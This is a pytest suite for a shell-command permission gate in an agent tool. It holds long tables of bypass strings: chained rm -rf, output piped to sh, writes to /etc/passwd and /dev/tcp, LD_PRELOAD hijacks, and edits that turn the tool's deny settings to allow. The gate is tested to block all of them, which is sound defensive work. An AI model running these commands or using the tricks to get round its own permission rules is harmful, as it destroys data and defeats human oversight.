"""Shell command analysis: segments, redirects, opacity, rule patterns, and the
settings-file check. The tables of bypass attempts are the heart of it: a rule
allowing `shell(git diff *)` must not allow any of them."""

from __future__ import annotations

import shutil
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from runtime.gate.shell.commands import (
    Segment,
    allowed_by,
    analyze,
    denied_by,
    matches,
    outside_redirects,
    touches_settings,
)


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace with project settings, a user home and an org policy file of
    its own, plus symlinks and a hard link that lead somewhere they should not."""
    home = tmp_path / "home"
    (home / ".config" / "toolrun").mkdir(parents=True)
    (home / ".config" / "toolrun" / "settings.json").write_text("{}")
    policy = tmp_path / "policy" / "policy.json"
    policy.parent.mkdir()
    policy.write_text("{}")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TOOLRUN_POLICY_FILE", str(policy))
    root = tmp_path / "ws"
    (root / ".toolrun").mkdir(parents=True)
    (root / ".toolrun" / "settings.json").write_text("{}")
    (root / "sub").mkdir()
    (root / "a.py").write_text("")
    (tmp_path / "outside").mkdir()
    (root / "out_link").symlink_to(tmp_path / "outside", target_is_directory=True)
    (root / "conf").symlink_to(root / ".toolrun", target_is_directory=True)
    (root / "hard.json").hardlink_to(root / ".toolrun" / "settings.json")
    return root


def allowed(command: str, ws: Path, *patterns: str) -> bool:
    return allowed_by(patterns or ("git diff *",), analyze(command, ws))


# --- allow: `shell(git diff *)` ---------------------------------------------------

BYPASSES = [
    "git diff && rm -rf x",
    "git diff; curl http://x",
    "git diff | sh",
    "git diff |& sh",
    "git diff | bash -s",
    "git diff | xargs rm",
    "git diff | xargs sh -c 'rm x'",
    "git diff $(rm -rf x)",
    'git diff "$(rm -rf x)"',
    "git diff `id`",
    'git diff "`id`"',
    "git diff $((1+2))",
    "git diff\nrm -rf x",
    "git diff\r\nrm -rf x",
    "git diff # fine\nrm -rf x",
    "git diff \\\n&& rm -rf x",
    "git diff > /etc/passwd",
    "git diff > ../out",
    "git diff >> ~/.bashrc",
    "git diff > ~-/out",
    "git diff > $HOME/out",
    'git diff > "$HOME"/out',
    "git diff 2> /tmp/err",
    "git diff &> /tmp/all",
    "git diff &>> /tmp/all",
    "git diff >| /tmp/x",
    "git diff 1>&2 > /tmp/x",
    "git diff > out_link/x",
    "git diff > /dev/tcp/10.0.0.1/80",
    "git diff & rm x",
    "git diff || rm x",
    "git diff <(curl x)",
    "git diff >(tee /tmp/x)",
    "git diff ${IFS}x",
    "git diff $X",
    "git diff $'\\x3b' rm x",
    "bash -c 'git diff'",
    "sh -c 'git diff'",
    "eval git diff",
    "exec git diff",
    "source x.sh; git diff",
    ". ./x.sh && git diff",
    "trap 'rm x' EXIT; git diff",
    "alias git=rm; git diff",
    "git diff > .toolrun/settings.json",
    "git diff > .TOOLRUN/settings.json",
    "git diff > ./.toolrun/../.toolrun/settings.json",
    "git diff > conf/settings.json",
    "git diff > hard.json",
    "git diff <<EOF\nrm x\nEOF",
    "git diff 'unbalanced",
    'git diff "unbalanced',
    "git diff\x00; rm x",
    "GIT_DIR=x git diff",
    "GIT_EXTERNAL_DIFF=./evil.sh git diff",
    "LD_PRELOAD=./evil.so git diff",
    "env git diff",
    "sudo git diff",
    "(rm x) && git diff",
    "{ rm x; }; git diff",
    "coproc rm x; git diff",
    "git difftool",
    "git",
    '"git diff" HEAD',
    "gi? diff",
    "cd /tmp && git diff > out",
    "git diff | time rm x",
    "git diff |& time",
    "git diff; <&-rm x",
]


@pytest.mark.parametrize("command", BYPASSES)
def test_git_diff_rule_does_not_allow(command: str, ws: Path) -> None:
    assert not allowed(command, ws)


ALLOWED = [
    "git diff",
    "git diff HEAD -- a.py",
    "git diff HEAD~1 -- a.py",
    "git diff && git diff --stat",
    "git diff; git diff --stat",
    "git diff\ngit diff --stat",
    "git diff | git diff --stat",
    "if git diff; then git diff --stat; fi",
    "git diff > out.txt",
    "git diff > sub/out.txt",
    "git diff >> ./out.txt 2>&1",
    "git diff > /dev/null 2>&1",
    "git diff 2>&-",
    "git diff ';' rm",
    "git diff \"a;b|c&&d\" '$(x)'",
    "git  diff",
    "git\tdiff",
    "'git' diff",
    "g''it diff",
    "\\git diff",
    "git diff # a comment; rm x",
    "git diff 'my file.py'",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_git_diff_rule_allows(command: str, ws: Path) -> None:
    assert allowed(command, ws)


def test_compound_needs_every_part_allowed(ws: Path) -> None:
    assert not allowed("git diff && git status", ws)
    assert allowed("git diff && git status", ws, "git diff *", "git status")
    assert not allowed("git status --short && git diff", ws, "git diff *", "git status")


def test_no_patterns_and_no_segments_allow_nothing(ws: Path) -> None:
    assert not allowed_by([], analyze("git diff", ws))
    assert not allowed_by(["*"], analyze("# only a comment", ws))


def test_cd_is_followed_for_redirects(ws: Path) -> None:
    patterns = ("git diff *", "cd *")
    assert allowed("cd sub && git diff > out.txt", ws, *patterns)
    assert not allowed("cd /tmp && git diff > out.txt", ws, *patterns)
    assert not allowed("cd && git diff > out.txt", ws, *patterns)
    assert not allowed("cd $D && git diff > out.txt", ws, *patterns)


def test_settings_are_never_allowed(ws: Path) -> None:
    assert not allowed("rm .toolrun/settings.json", ws, "rm *")
    assert not allowed("cp x ~/.config/toolrun/settings.json", ws, "cp *")
    assert allowed("rm build/x.o", ws, "rm *")


# --- deny: `shell(rm *)` ------------------------------------------------------------

DENIED = [
    "rm x",
    "rm",
    "ls; rm -rf x",
    "ls && rm x",
    "ls || rm x",
    "ls | rm x",
    "ls & rm x",
    "ls\nrm x",
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    "echo ${x:-$(rm y)}",
    "cat <(rm x)",
    "echo $(echo $(rm x))",
    "sudo rm x",
    "/bin/rm x",
    "env FOO=1 rm x",
    "FOO=1 rm x",
    "nohup rm x &",
    "timeout 5 rm -rf x",
    "command rm x",
    "find . -exec rm {} +",
    "xargs rm < list",
    "bash -c 'rm x'",
    'sh -c "cd sub && rm x"',
    'eval "rm x"',
    "eval rm x",
    "echo 'rm -rf x' | sh",
    "if true; then rm x; fi",
    "while true; do rm x; done",
    "f() { rm x; }; f",
    "function f { rm x; }",
    "{ rm x; }",
    "(rm x)",
    "! rm x",
    "time rm x",
    "ls | time rm x",
    "git diff `rm x`",
    "cat <<EOF\nrm x\nEOF",
]


@pytest.mark.parametrize("command", DENIED)
def test_rm_rule_denies(command: str, ws: Path) -> None:
    assert denied_by(["rm *"], analyze(command, ws))


@pytest.mark.parametrize(
    "command", ["ls", "echo rm", "grep rm notes.txt", "rmdir x", "git commit -m 'rm x'", "ls rm"]
)
def test_rm_rule_leaves_alone(command: str, ws: Path) -> None:
    assert not denied_by(["rm *"], analyze(command, ws))


# --- matching -----------------------------------------------------------------------


def seg(*words: str) -> Segment:
    return Segment(list(words))


@pytest.mark.parametrize(
    ("pattern", "words", "expected"),
    [
        ("git diff *", ["git", "diff"], True),
        ("git diff *", ["git", "diff", "HEAD~1", "--", "a.py"], True),
        ("git diff *", ["git", "diffx"], False),
        ("git diff *", ["git"], False),
        ("git diff *", ["git diff", "HEAD"], False),
        ("git diff *", ["GIT_DIR=x", "git", "diff"], False),
        ("git diff:*", ["git", "diff", "HEAD"], True),
        ("git diff*", ["git", "difftool"], True),
        ("npm run test:*", ["npm", "run", "test", "--watch"], True),
        ("npm run test:*", ["npm", "run", "testing"], False),
        ("npm run test:u*", ["npm", "run", "test:unit", "--watch"], True),
        ("npm run test:u*", ["npm", "run", "build"], False),
        ("git * --stat", ["git", "log", "-p", "--stat"], True),
        ("git * --stat", ["git", "log", "--stat", "-p"], False),
        ("ls", ["ls"], True),
        ("ls", ["ls", "-la"], False),
        ("*", ["anything", "at", "all"], True),
        ("", ["ls"], False),
        ("  git   diff  * ", ["git", "diff", "x"], True),
        ("echo a.b", ["echo", "aXb"], False),
        ("echo [a]", ["echo", "[a]"], True),
    ],
)
def test_matches(pattern: str, words: list[str], expected: bool) -> None:
    assert matches(pattern, seg(*words)) is expected


def test_segment_text_is_normalised() -> None:
    assert seg("git", "diff", "a b").text == "git diff a b"


# --- analysis -----------------------------------------------------------------------


def test_segments_and_redirects(ws: Path) -> None:
    analysis = analyze(
        "cat a.txt | grep x > out.txt 2>>err.log; echo \"a;b\" && echo 'c|d' < in.txt >&2", ws
    )
    assert [s.words for s in analysis.segments] == [
        ["cat", "a.txt"],
        ["grep", "x"],
        ["echo", "a;b"],
        ["echo", "c|d"],
    ]
    assert analysis.redirects == ["out.txt", "err.log", "in.txt"]
    assert analysis.opaque is None


def test_redirect_forms(ws: Path) -> None:
    analysis = analyze("a &>all 2>&1 1>&- 3<>rw {fd}>named >|clob <<<'here' b>x", ws)
    assert analysis.redirects == ["all", "rw", "named", "clob", "x"]
    assert analysis.segments[0].words == ["a", "b"]


def test_quoted_digits_are_words_not_descriptors(ws: Path) -> None:
    analysis = analyze('echo "2">x', ws)
    assert analysis.segments[0].words == ["echo", "2"]
    assert analysis.redirects == ["x"]


def test_comments(ws: Path) -> None:
    analysis = analyze("echo a#b # c; rm x\necho d", ws)
    assert [s.text for s in analysis.segments] == ["echo a#b", "echo d"]


def test_subcommands_are_collected(ws: Path) -> None:
    analysis = analyze("echo $(ls -l) `pwd` <(cat x)", ws)
    assert analysis.subcommands == ["ls -l", "pwd", "cat x"]


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("echo $(id)", "command substitution"),
        ("echo `id`", "backtick"),
        ("diff <(a) <(b)", "process substitution"),
        ("echo ${x}", "parameter expansion"),
        ("echo $HOME", "variable"),
        ("echo $'a'", "ANSI-C"),
        ("echo $((1+1))", "arithmetic"),
        ("cat <<EOF\nx\nEOF", "here-document"),
        ("eval ls", "eval"),
        ("exec ls", "exec"),
        ("source x", "source"),
        (". x", "'.'"),
        ("bash -c ls", "shell"),
        ("ls | /bin/sh", "shell"),
        ("find . | xargs sh", "shell"),
        ("find . -exec bash -c ls \\;", "shell"),
        ("echo 'a", "unbalanced single quote"),
        ('echo "a', "unbalanced double quote"),
        ("echo `a", "unterminated"),
        ("echo $(a", "unterminated"),
        ("echo a \\\n b", "line continuation"),
        ("echo a\\", "trailing backslash"),
        ("echo a\x00", "NUL"),
        ("echo a\x1b[0m", "control character"),
        ("echo >", "without a target"),
        ("CDPATH=/ cd etc", "CDPATH"),
    ],
)
def test_opaque(command: str, reason: str, ws: Path) -> None:
    opaque = analyze(command, ws).opaque
    assert opaque is not None and reason in opaque


@pytest.mark.parametrize(
    "command", ["ls -la", "echo 'a$(b)'", 'echo "cost: $"', "find . -name x", "echo a=b c"]
)
def test_not_opaque(command: str, ws: Path) -> None:
    assert analyze(command, ws).opaque is None


def test_opaque_never_allowed_even_by_star(ws: Path) -> None:
    assert not allowed("echo $(ls)", ws, "*")


# --- redirects outside the workspace --------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo > ../x",
        "echo > /etc/x",
        "echo > ~/x",
        "echo > ~root/x",
        "echo > $HOME/x",
        "echo > out_link/x",
        "echo > /dev/tcp/127.0.0.1/80",
        "echo > /dev/udp/127.0.0.1/53",
        "echo > .toolrun/settings.json",
        "echo > .toolrun/other",
        "cat < /etc/passwd",
        "cd /tmp; echo > x",
        "X=cd; $X /tmp; echo > x",
        "eval 'cd /tmp'; echo > x",
        "echo $(echo > /etc/x)",
        "bash -c 'echo > /etc/x'",
        "echo 'echo > /etc/x' | sh",
        # Conservative: a cd may fail, so `../x` is also read from the workspace itself.
        "cd sub && echo > ../x",
    ],
)
def test_outside_redirects_found(command: str, ws: Path) -> None:
    assert outside_redirects(analyze(command, ws), ws)


@pytest.mark.parametrize(
    "command",
    [
        "echo > x",
        "echo > sub/../x",
        "echo > /dev/null",
        "echo 2> /dev/stderr",
        "cd sub && echo > x",
        "echo > new_dir/x",
        'echo "$A > /etc/x"',
        "echo 'a > /etc/x' $B",
    ],
)
def test_outside_redirects_clear(command: str, ws: Path) -> None:
    assert outside_redirects(analyze(command, ws), ws) == []


# --- settings files --------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "rm .toolrun/settings.json",
        "rm -f ./.toolrun/../.toolrun/settings.json",
        "echo x > ./.toolrun/../.toolrun/settings.json",
        "echo x >> .TOOLRUN/settings.json",
        "mv .toolrun x",
        "mv .toolrun/settings.json /tmp/",
        "ln -sf /tmp/x .toolrun/settings.json",
        "cp evil.json .toolrun/settings.json",
        "tee .toolrun/settings.json",
        "sed -i s/deny/allow/ .toolrun/settings.json",
        "truncate -s0 .toolrun/settings.json",
        "chmod 777 .toolrun/settings.json",
        "dd if=x of=.toolrun/settings.json",
        "git checkout -- .toolrun/settings.json",
        "cd .toolrun && rm settings.json",
        "rm .tool{run,x}/settings.json",
        "rm .toolru?/settings.json",
        "rm .t*/settings.json",
        "rm conf/settings.json",
        "echo x > conf/settings.json",
        "echo x > hard.json",
        "cp x hard.json",
        "rm -rf .",
        "rm -rf ..",
        "rm -rf *",
        "chmod -R a-w .",
        "find . -name settings.json -delete",
        "find . -name settings.json | xargs rm",
        "cp x ~/.config/toolrun/settings.json",
        "rm -r ~/.config",
        "rm ~/.config/toolrun/settings.json",
        "echo {} > $TOOLRUN_POLICY_FILE_IS_UNKNOWN/.toolrun/x",
        "echo $(rm .toolrun/settings.json)",
        "bash -c 'rm .toolrun/settings.json'",
        "X=.toolrun; rm -r $X",
        "cd $D && rm settings.json",
        "eval cd x; mv settings.json y",
    ],
)
def test_touches_settings(command: str, ws: Path) -> None:
    assert touches_settings(analyze(command, ws), ws) is not None


def test_touches_org_policy_file(ws: Path) -> None:
    policy = ws.parent / "policy" / "policy.json"
    assert touches_settings(analyze(f"sed -i s/a/b/ {policy}", ws), ws)
    assert touches_settings(analyze(f"echo x > {policy}", ws), ws)
    assert touches_settings(analyze(f"rm -rf {policy.parent}", ws), ws)


@pytest.mark.parametrize(
    "command",
    [
        "cat .toolrun/settings.json",
        "ls -la",
        "rm build/x.o",
        "git diff",
        "echo hello > out.txt",
        "find . -name '*.py'",
        "grep -r settings src",
        "cp a.py sub/",
    ],
)
def test_does_not_touch_settings(command: str, ws: Path) -> None:
    assert touches_settings(analyze(command, ws), ws) is None


# --- property: what the analysis allows, bash really runs --------------------------------

TOKENS = [
    "git",
    "diff",
    "rm",
    "x",
    "HEAD",
    " ",
    " ",
    "\t",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "\n",
    "'",
    '"',
    "\\",
    "$(",
    ")",
    "(",
    "`",
    "$",
    "{",
    "}",
    ">",
    ">>",
    "<",
    "2>",
    "&>",
    "../o",
    "o",
    "/tmp/o",
    "#",
    "*",
    "=",
    "X=1",
    ",",
    "~/o",
    "-",
    "!",
    "if",
    "then",
    "fi",
    "do",
    "done",
    "eval",
    "sh",
    "$IFS",
    "<<",
    "<(",
    "\r",
]
# One log file per run (background jobs run at the same time); fields end with \x1f.
FAKE_GIT = """#!/bin/sh
{ printf 'git'; printf '\\037%s' "$@"; } > "$LOG/git.$$"
"""
HANDLER = """command_not_found_handle() { printf 'ran\\037%s' "$1" > "$LOG/ran.$$.$RANDOM"; }
"""

commands = st.one_of(
    st.lists(st.sampled_from(TOKENS), max_size=10).map(lambda t: "git diff " + "".join(t)),
    st.lists(st.sampled_from(TOKENS), max_size=10).map(lambda t: "git diff " + " ".join(t)),
    st.lists(st.sampled_from(["git diff", *TOKENS]), max_size=8).map("".join),
)


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("differential")
    (base / "bin").mkdir()
    (base / "bin" / "git").write_text(FAKE_GIT)
    (base / "bin" / "git").chmod(0o755)
    (base / "handler.sh").write_text(HANDLER)
    return {"base": base}


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(command=commands)
def test_allowed_commands_run_only_git_diff(command: str, sandbox: dict[str, Path]) -> None:
    base = sandbox["base"]
    ws = base / "ws"
    shutil.rmtree(ws, ignore_errors=True)
    ws.mkdir()
    if not allowed_by(["git diff *"], analyze(command, ws)):
        return
    event("allowed")
    log = base / "log"
    shutil.rmtree(log, ignore_errors=True)
    log.mkdir()
    before = sorted(p.name for p in base.iterdir())
    env = {
        "PATH": str(base / "bin"),
        "LOG": str(log),
        "BASH_ENV": str(base / "handler.sh"),
        "HOME": str(base / "home"),
    }
    subprocess.run(
        ["/bin/bash", "-c", command],
        cwd=ws,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=10,
    )
    if "&" in command:
        time.sleep(0.05)  # a background job may still be writing its record
    for record in log.iterdir():
        assert record.read_text().split("\x1f")[:2] == ["git", "diff"], (command, record.name)
    assert sorted(p.name for p in base.iterdir()) == before, command
    assert not Path("/tmp/o").exists()
